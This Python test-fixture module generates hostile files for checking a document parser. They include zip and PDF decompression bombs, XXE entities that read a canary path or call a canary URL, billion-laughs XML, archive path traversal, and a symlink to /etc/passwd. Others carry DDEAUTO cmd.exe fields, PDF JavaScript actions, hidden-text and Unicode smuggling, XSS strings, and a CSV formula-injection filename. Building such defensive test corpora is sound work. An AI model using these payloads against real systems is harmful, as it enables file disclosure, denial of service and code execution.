"""Files that mean harm, or that broke on their way: made by code, so that each says what it tries.

`corpus(canary_url, canary_path)` gives name, bytes, and what must come of it: `refused` (a typed error), `read`
(an honest reading), or `either`. `secret` words must be in no snippet of any of them.
"""

import io
import json
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

SECRET = "zqxsecretzqx"
SAID = "They knew my name at the counter and the bread was warm"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml"
BOOK_TYPES = TYPES.replace(
    "/>",
    f'><Override PartName="/xl/workbook.xml" ContentType="{MAIN}.sheet.main+xml"/>'
    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{MAIN}.worksheet+xml"/></Types>',
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Hostile:
    """A file, what it tries, and what must come of it; `says` is a word of the refusal."""

    name: str
    content: bytes
    ends: str
    says: str = ""


def packed(entries: dict[str, bytes | str], level: int = 6) -> bytes:
    """A ZIP archive of these entries."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx(body: str, **more: bytes | str) -> bytes:
    """A Word file with this body; `more` are further entries, `/` written as `__`."""
    document = f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>{body}</w:body></w:document>'
    extra = {name.replace("__", "/"): content for name, content in more.items()}
    return packed({"[Content_Types].xml": TYPES, "word/document.xml": document, **extra})


def para(text: str, properties: str = "") -> str:
    """A Word paragraph of one run."""
    return f"<w:p><w:r><w:rPr>{properties}</w:rPr><w:t>{text}</w:t></w:r></w:p>"


def xlsx(rows: str, *, book: str = "", before: str = "", sheet: str | None = None, **more: bytes | str) -> bytes:
    """A workbook of one sheet with these rows of XML."""
    sheets = book or '<sheet name="One" sheetId="1" r:id="rId1"/>'
    content = f'<?xml version="1.0"?><worksheet {S}>{before}<sheetData>{rows}</sheetData></worksheet>'
    relation = f'<Relationship Id="rId1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
    relation += f'<Relationship Id="rId2" Type="{OFFICE}/worksheet" Target="worksheets/sheet2.xml"/>'
    extra = {name.replace("__", "/"): body for name, body in more.items()}
    return packed(
        {
            "[Content_Types].xml": BOOK_TYPES,
            "_rels/.rels": f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{OFFICE}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'<?xml version="1.0"?><workbook {S} {R}><sheets>{sheets}</sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{relation}</Relationships>',
            "xl/worksheets/sheet1.xml": sheet if sheet is not None else content,
            **extra,
        }
    )


def row(number: int, *cells: str, more: str = "") -> str:
    """A row of a sheet with texts in it."""
    said = "".join(
        f'<c r="{chr(65 + at)}{number}" t="inlineStr"><is><t>{cell}</t></is></c>' for at, cell in enumerate(cells)
    )
    return f'<row r="{number}" {more}>{said}</row>'


def pdf(content: bytes, *, kids: bytes = b"[3 0 R]", more: tuple[bytes, ...] = (), catalog: bytes = b"") -> bytes:
    """A PDF of one page with this content stream."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids " + kids + b" /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R "
        b"/Resources << /Font << /F1 4 0 R >> >> >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        *more,
    ]
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))


def line(text: str, before: str = "", y: int = 700, size: int = 12) -> bytes:
    """A line of text in a content stream."""
    return f"BT {before} /F1 {size} Tf 72 {y} Td ({text}) Tj ET\n".encode()


def corpus(url: str, path: str) -> list[Hostile]:
    """All of them. `url` and `path` are canaries: nobody may ask for the one or read the other."""
    return [*bombs(), *entities(url, path), *archives(url), *hidden(), *pdfs(url, path), *texts(), *wrong()]


def bombs() -> Iterator[Hostile]:
    """Small files that grow."""
    big = b" " * (60 << 20)
    yield Hostile("bomb.docx", docx(para(SAID), word__media__a=big), "refused", "unpacks")
    yield Hostile("bomb.xlsx", xlsx(row(1, "comment"), xl__a=b"0" * (30 << 20)), "refused", "unpacks")
    many = {"[Content_Types].xml": TYPES, **{f"xl/{n}": b"" for n in range(6000)}}
    yield Hostile("entries.xlsx", packed(many), "refused", "more than 5,000")
    yield Hostile("rows.xlsx", xlsx("<row><c><v>1</v></c></row>" * 1_200_000), "refused", "")
    varied = "".join(f"<row><c><v>{(n * 7919) % 999983}</v></c></row>" for n in range(230_000))
    yield Hostile("rows-varied.xlsx", xlsx(varied), "refused", "more than 200,000 rows")
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far away</t></is></c></row>'
    yield Hostile("far.xlsx", xlsx(row(1, "comment", "n") + far), "refused", "")
    yield Hostile("deep.docx", docx("<w:p>" * 20_000 + "</w:p>" * 20_000), "refused", "")
    wide = "<w:tr>" + "<w:tc><w:p/></w:tc>" * 700 + "</w:tr>"
    yield Hostile("wide.docx", docx(f"<w:tbl>{wide}</w:tbl>" + para(SAID)), "either")
    lie = bytearray(docx(para(SAID), word__media__a=b"x" * 5_000_000))
    at = lie.find(b"PK\x01\x02", lie.find(b"word/media/a"))
    where = lie.rfind(b"PK\x01\x02", 0, lie.rfind(b"word/media/a"))
    struct.pack_into("<I", lie, where + 24, 10)
    yield Hostile("lying-size.docx", bytes(lie), "refused", "damaged") if at >= 0 else Hostile("x", b"", "refused")
    styles = "".join(f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 40}"/></w:style>' for n in range(40))
    circle = '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>' + SAID + "</w:t></w:r></w:p>"
    yield Hostile("circle-of-styles.docx", docx(circle, word__styles__xml=""), "read")
    yield Hostile("circle.docx", packed({
        "word/document.xml": f"<w:document {W}><w:body>{circle}</w:body></w:document>",
        "word/styles.xml": f"<w:styles {W}>{styles}</w:styles>",
    }), "read")  # fmt: skip


def entities(url: str, path: str) -> Iterator[Hostile]:
    """XML that reads files, asks servers, or grows."""
    grow = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    heads = {
        "file": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{path}">]>',
        "server": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{url}/entity">]>',
        "outside-dtd": f'<!DOCTYPE x SYSTEM "{url}/dtd">',
        "parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{url}/p"> %p;]>',
        "laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{grow}<!ENTITY e "&l8;">]>',
        "quadratic": f'<!DOCTYPE x [<!ENTITY e "{"a" * 100_000}">]>',
    }
    for what, head in heads.items():
        body = f'<?xml version="1.0"?>{head}<w:document {W}><w:body>{para("&e;" * 50)}</w:body></w:document>'
        yield Hostile(f"entity-{what}.docx", packed({"word/document.xml": body}), "refused", "XML")
        cells = f'<?xml version="1.0"?>{head}<worksheet {S}><sheetData>{row(1, "comment", "&e;")}</sheetData></worksheet>'
        yield Hostile(f"entity-{what}.xlsx", xlsx("", sheet=cells), "refused", "XML")
    wide = f'<?xml version="1.0" encoding="UTF-16"?>{heads["file"]}<w:document {W}/>'.encode("utf-16")
    yield Hostile("entity-utf16.docx", packed({"word/document.xml": wide}), "refused", "XML")
    seven = f'<?xml version="1.0" encoding="UTF-7"?><w:document {W}/>'
    yield Hostile("encoding-utf7.docx", packed({"word/document.xml": seven}), "refused", "XML")


def archives(url: str) -> Iterator[Hostile]:
    """Archives that are more, or other, than they seem."""
    for what, entry in {"up": "../../../tmp/x", "root": "/etc/cron.d/x", "back": "..\\x", "drive": "C:/x"}.items():
        yield Hostile(
            f"traversal-{what}.docx", docx(para(SAID), **{entry.replace("/", "__"): b"x"}), "refused", "outside"
        )
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    buffer = io.BytesIO(docx(para(SAID)))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    yield Hostile("symlink.docx", buffer.getvalue(), "refused", "outside")
    yield Hostile("nested.zip", packed({"a.zip": packed({"b.zip": b"x"})}), "refused", "archives within")
    yield Hostile(
        "nested-unnamed.docx", docx(para(SAID), word__x=packed({"b": b"x" * 99})), "refused", "archives within"
    )
    yield Hostile("plain.zip", packed({"a.csv": f"comment\n{SAID}\n"}), "refused", "ZIP")
    yield Hostile("macros.xlsm", xlsx(row(1, "comment"), xl__vbaProject=b"x"), "refused", "macros")
    yield Hostile(
        "macros.xlsx", packed({"xl/workbook.xml": "<x/>", "xl/vbaProject.bin": b"x"}), "refused", "macros"
    )
    yield Hostile("macros.docm", docx(para(SAID), word__vbaProject=b"x"), "refused", "macros")
    typed = TYPES.replace(
        "/>", '><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    yield Hostile(
        "macro-type.docx", packed({"[Content_Types].xml": typed, "word/document.xml": "<x/>"}), "refused", "macros"
    )
    yield Hostile("macrosheet.xlsx", xlsx(row(1, "comment"), xl__macrosheets__a="<x/>"), "refused", "macros")
    outside = f'<Relationships xmlns="{RELS}"><Relationship Id="r" TargetMode="External" '
    template = outside + f'Type="{OFFICE}/attachedTemplate" Target="{url}/template.dotm"/></Relationships>'
    yield Hostile("template.docx", packed({
        "word/document.xml": f"<w:document {W}><w:body>{para(SAID)}</w:body></w:document>",
        "word/_rels/settings.xml.rels": template}), "read")  # fmt: skip
    fetch = f'<w:p><w:r><w:instrText> INCLUDEPICTURE "{url}/p.png" </w:instrText></w:r></w:p>'
    yield Hostile("field.docx", docx(fetch + para(SAID)), "read")
    dde = f'<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"><w:r><w:t>{SAID}</w:t></w:r></w:fldSimple></w:p>'
    yield Hostile("dde.docx", docx(dde), "read")
    whole = docx(para(SAID))
    yield Hostile("cut.docx", whole[: len(whole) // 2], "refused", "damaged")
    yield Hostile("cut-tail.xlsx", xlsx(row(1, "comment"))[:-30], "refused", "damaged")
    yield Hostile("directory-only.zip", whole[whole.find(b"PK\x01\x02") :], "either")
    locked = bytearray(whole)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := locked.find(mark, at + 1)) >= 0:
            locked[at + place] |= 1
    yield Hostile("encrypted.docx", bytes(locked), "refused", "password")
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    for what, entry in {"password": "EncryptedPackage", "macros": "_VBA_PROJECT", "Word": "WordDocument"}.items():
        yield Hostile(
            f"old-{what}.xls", ole + (entry.encode("utf-16-le") + b"\0\0").ljust(128, b"\0"), "refused", what
        )
    yield Hostile(
        "old-broken.xls", ole + ("Workbook".encode("utf-16-le") + b"\0\0").ljust(128, b"\xff") * 40, "refused", ""
    )


def hidden() -> Iterator[Hostile]:
    """Words that no person sees; each stands beside words that a person does see."""
    for what, look in {
        "vanish": "<w:vanish/>",
        "white": '<w:color w:val="FFFFFF"/>',
        "nearly-white": '<w:color w:val="FEFEFE"/>',
        "one-point": '<w:sz w:val="2"/>',
    }.items():
        yield Hostile(f"hidden-{what}.docx", docx(para(SECRET, look) + para(SAID)), "read")
    deleted = (
        f'<w:p><w:del w:id="1"><w:r><w:delText>{SECRET}</w:delText></w:r></w:del><w:r><w:t>{SAID}</w:t></w:r></w:p>'
    )
    yield Hostile("hidden-deletion.docx", docx(deleted), "read")
    note = f'<w:comments {W}><w:comment w:id="1">{para(SECRET)}</w:comment></w:comments>'
    yield Hostile("hidden-comment.docx", packed({
        "word/document.xml": f"<w:document {W}><w:body>{para(SAID)}</w:body></w:document>",
        "word/comments.xml": note}), "read")  # fmt: skip
    style = f'<w:styles {W}><w:style w:styleId="q"><w:rPr><w:vanish/></w:rPr></w:style></w:styles>'
    styled = f'<w:p><w:pPr><w:pStyle w:val="q"/></w:pPr><w:r><w:t>{SECRET}</w:t></w:r></w:p>'
    yield Hostile("hidden-style.docx", packed({
        "word/document.xml": f"<w:document {W}><w:body>{styled}{para(SAID)}</w:body></w:document>",
        "word/styles.xml": style}), "read")  # fmt: skip
    rows = row(1, "stars", "comment") + row(2, "5", SAID)
    for state in ("hidden", "veryHidden"):
        book = (
            '<sheet name="One" sheetId="1" r:id="rId1"/>'
            + f'<sheet name="Two" sheetId="2" state="{state}" r:id="rId2"/>'
        )
        second = f"<worksheet {S}><sheetData>{row(1, 'comment')}{row(2, SECRET + ' is what they all said')}</sheetData></worksheet>"
        buffer = io.BytesIO(xlsx(rows, book=book))
        with zipfile.ZipFile(buffer, "a") as archive:
            archive.writestr("xl/worksheets/sheet2.xml", second)
        yield Hostile(f"hidden-sheet-{state}.xlsx", buffer.getvalue(), "read")
    yield Hostile("hidden-row.xlsx", xlsx(rows + row(3, "1", SECRET + " they said", more='hidden="1"')), "read")
    away = '<cols><col min="3" max="3" hidden="1"/></cols>'
    long = f"{SECRET} and very many more words than any other column has in any of its cells"
    yield Hostile(
        "hidden-column.xlsx", xlsx(row(1, "stars", "a", "comment") + row(2, "5", SAID, long), before=away), "read"
    )
    tags = "".join(chr(0xE0000 + ord(c)) for c in SECRET)
    for what, text in {
        "tags": f"{SAID}{tags}",
        "direction": "They knew \u202emy name\u202c at the counter",
        "zero-width": "They kn\u200bew my na\u2060me at the counter",
        "selectors": SAID + "".join(chr(0xE0100 + n) for n in range(40)),
    }.items():
        yield Hostile(f"hidden-{what}.csv", f"stars,comment\n5,{text}\n1,{SAID} again\n".encode(), "read")


def pdfs(url: str, path: str) -> Iterator[Hostile]:
    """PDF files that loop, hide, or reach out."""
    said = line(SAID)
    yield Hostile("pdf-invisible.pdf", pdf(said + line(SECRET, "3 Tr", 600)), "read")
    yield Hostile("pdf-white.pdf", pdf(said + line(SECRET, "1 1 1 rg", 600)), "read")
    yield Hostile("pdf-tiny.pdf", pdf(said + line(SECRET, y=600, size=1)), "read")
    yield Hostile("pdf-off-page.pdf", pdf(said + line(SECRET, y=5000)), "read")
    yield Hostile("pdf-only-invisible.pdf", pdf(line(SECRET, "3 Tr")), "refused", "seen")
    yield Hostile("pdf-cycle.pdf", pdf(said, kids=b"[2 0 R 3 0 R 2 0 R]"), "either")
    yield Hostile("pdf-own-stream.pdf", pdf(said).replace(b"/Contents 5 0 R", b"/Contents 3 0 R"), "either")
    yield Hostile("pdf-xref-loop.pdf", pdf(said).replace(b"trailer <<", b"trailer << /Prev 9"), "either")
    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >> /Length 6 >>\nstream\n/X Do \nendstream"
    loop = pdf(said + b"/X Do", more=(form,)).replace(b"/Font <<", b"/XObject << /X 6 0 R >> /Font <<", 1)
    yield Hostile("pdf-form-loop.pdf", loop, "either")
    import zlib

    grown = zlib.compress(zlib.compress(b"0 " * (40 << 20)))
    two = b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n" % len(grown) + grown + b"\nendstream"
    bomb = pdf(said, more=(two,)).replace(b"/Contents 5 0 R", b"/Contents 6 0 R")
    yield Hostile("pdf-bomb.pdf", bomb, "refused", "")
    act = f"/OpenAction << /S /URI /URI ({url}/open) >> /AA << /O << /S /JavaScript /JS (app.launchURL('{url}/js')) >> >>"
    yield Hostile("pdf-actions.pdf", pdf(said, catalog=act.encode()), "read")
    away = f"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (file://{path}) /Page 0 >> /Length 0 >>\nstream\n\nendstream"
    yield Hostile("pdf-reference.pdf", pdf(said, more=(away.encode(),)), "read")
    streamed = f"<< /F << /FS /URL /F ({url}/stream) >> /Length 0 >>\nstream\n\nendstream".encode()
    outside = pdf(said, more=(streamed,)).replace(b"/Contents 5 0 R", b"/Contents [5 0 R 6 0 R]")
    yield Hostile("pdf-outside-stream.pdf", outside, "either")
    yield Hostile("pdf-cut.pdf", pdf(said)[:300], "either")
    yield Hostile(
        "pdf-many.pdf",
        pdf(said).replace(b"[3 0 R]", b"[" + b"3 0 R " * 2500 + b"]").replace(b"/Count 1", b"/Count 2500"),
        "either",
    )
    yield Hostile("pdf-empty.pdf", b"%PDF-1.7\n%%EOF", "refused", "damaged")


def texts() -> Iterator[Hostile]:
    """Plain text that is too large, too deep, too wide, or broken."""
    yield Hostile("field-20mb.csv", b"stars,comment\n5," + b"a" * (19 << 20), "refused", "characters")
    yield Hostile("field-quoted.csv", b'stars,comment\n5,"' + b"word " * (3 << 20), "refused", "characters")
    yield Hostile("too-big.csv", b"a,comment\n" + b"x" * (21 << 20), "refused", "20 MB")
    yield Hostile("million-columns.csv", b"," * 1_000_000 + b"\n" + b"x," * 1_000_000, "refused", "columns")
    yield Hostile(
        "million-columns.xlsx",
        xlsx('<row r="1">' + "<c t='n'><v>1</v></c>" * 200_000 + "</row>"),
        "refused",
        "columns",
    )
    yield Hostile("rows.csv", b"n,comment\n" + b"1,so good it was\n" * 250_000, "refused", "rows")
    yield Hostile("cells.csv", b"\n".join([b"a," * 400] * 12_000), "refused", "cells")
    yield Hostile("newlines.csv", b"n,comment\n1," + b"\n" * 3_000_000 + b"words", "refused", "")
    yield Hostile("nuls.csv", b"n,comment\n" + b"\0" * 100_000, "refused", "")
    yield Hostile("some-nuls.csv", f"n,comment\n1,{SAID}\n".replace("knew", "kn\0ew").encode(), "read")
    yield Hostile(
        "lone-quotes.csv",
        b"n,comment\n" + b'1,"never closed but said by one of them\n' * 3_000,
        "refused",
        "never closed",
    )
    yield Hostile(
        "few-lone-quotes.csv", b"n,comment\n" + b'1,"never closed but said by one of them\n' * 300, "read"
    )
    yield Hostile("quotes.csv", b"n,comment\n" + b'"' * 500_001, "either")
    yield Hostile("deep.json", b"[" * 100_000 + b"]" * 100_000, "refused", "")
    yield Hostile("deep-objects.json", b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "refused", "")
    yield Hostile(
        "long-number.json", b'[{"comment": "' + SAID.encode() + b'", "n": ' + b"9" * 1_000_000 + b"}]", "read"
    )
    yield Hostile("cut.json", json.dumps([{"comment": SAID}] * 5).encode()[:-20], "refused", "JSON")
    yield Hostile(
        "many-keys.json",
        json.dumps([{f"k{n}": "x", "comment": SAID} for n in range(2000)]).encode(),
        "refused",
        "fields",
    )
    bad = "\n".join([json.dumps({"comment": SAID}), "{broken", json.dumps({"comment": SAID + " twice"})])
    yield Hostile("broken-line.jsonl", bad.encode(), "read")
    yield Hostile("surrogates.json", b'[{"comment": "They knew \\ud800 my name at the counter"}]', "read")
    yield Hostile("empty.csv", b"", "refused", "no text")
    yield Hostile("blank.csv", b"\r\n" * 5_000, "refused", "no text")
    for what, text in {"a": "aaaa" * 20_000 + "!", "dots": "." * 90_000 + "x", "blanks": "x" + " " * 90_000 + "x",
                       "marks": "- " * 40_000 + "x", "ask": "a?" * 40_000, "ad": "http://" * 10_000}.items():  # fmt: skip
        yield Hostile(f"regex-{what}.txt", f"{text}\n\n{SAID}\n".encode(), "read")
    half = f"n;comment\n1;{SAID}\n2;O café é ótimo e o pão também\n".encode()
    yield Hostile("mixed.csv", half + "3;A manhã começa com pão quente\n".encode("cp1252"), "read")
    yield Hostile("utf16-odd.csv", half.decode().encode("utf-16-le")[:-1], "read")
    yield Hostile("random.csv", bytes((n * 7919 + n // 7) % 251 for n in range(20_000)), "refused", "")


def wrong() -> Iterator[Hostile]:
    """Files that are not what their name says."""
    yield Hostile("page.csv", b"<!DOCTYPE html><script>alert(1)</script>", "refused", "web page")
    yield Hostile(
        "page-late.csv", b"\xef\xbb\xbf" + b" \n" * 3_000 + b"<html><body>x</body></html>", "refused", "web page"
    )
    yield Hostile(
        "picture.csv", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "refused", "web page"
    )
    yield Hostile("program.csv", b"MZ\x90\x00" + b"\0" * 400, "refused", "program")
    yield Hostile("program.txt", b"\x7fELF\x02" + b"\0" * 400, "refused", "program")
    yield Hostile("video.csv", b"\0\0\0\x18ftypmp42" + b"\0" * 400, "refused", "recording")
    yield Hostile("sheet-as-text.txt", xlsx(row(1, "stars", "comment") + row(2, "5", SAID)), "read")
    yield Hostile("text-as-sheet.xlsx", f"stars,comment\n5,{SAID}\n".encode(), "read")
    yield Hostile("pdf-as-word.docx", pdf(line(SAID)), "read")
    yield Hostile("polyglot.csv", f"n,comment\n1,{SAID}\n".encode() + docx(para(SECRET)), "refused", "")
    yield Hostile("polyglot.pdf", pdf(line(SAID)) + docx(para(SECRET)), "read")
    yield Hostile("web-in-cells.csv", f'n,comment\n1,"<img src=x onerror=alert(1)> {SAID}"\n'.encode(), "read")
    yield Hostile("=cmd|'/c calc'!A1.csv", f"n,comment\n1,{SAID}\n".encode(), "read")
    yield Hostile("../../etc/passwd", f"n,comment\n1,{SAID}\n".encode(), "read")
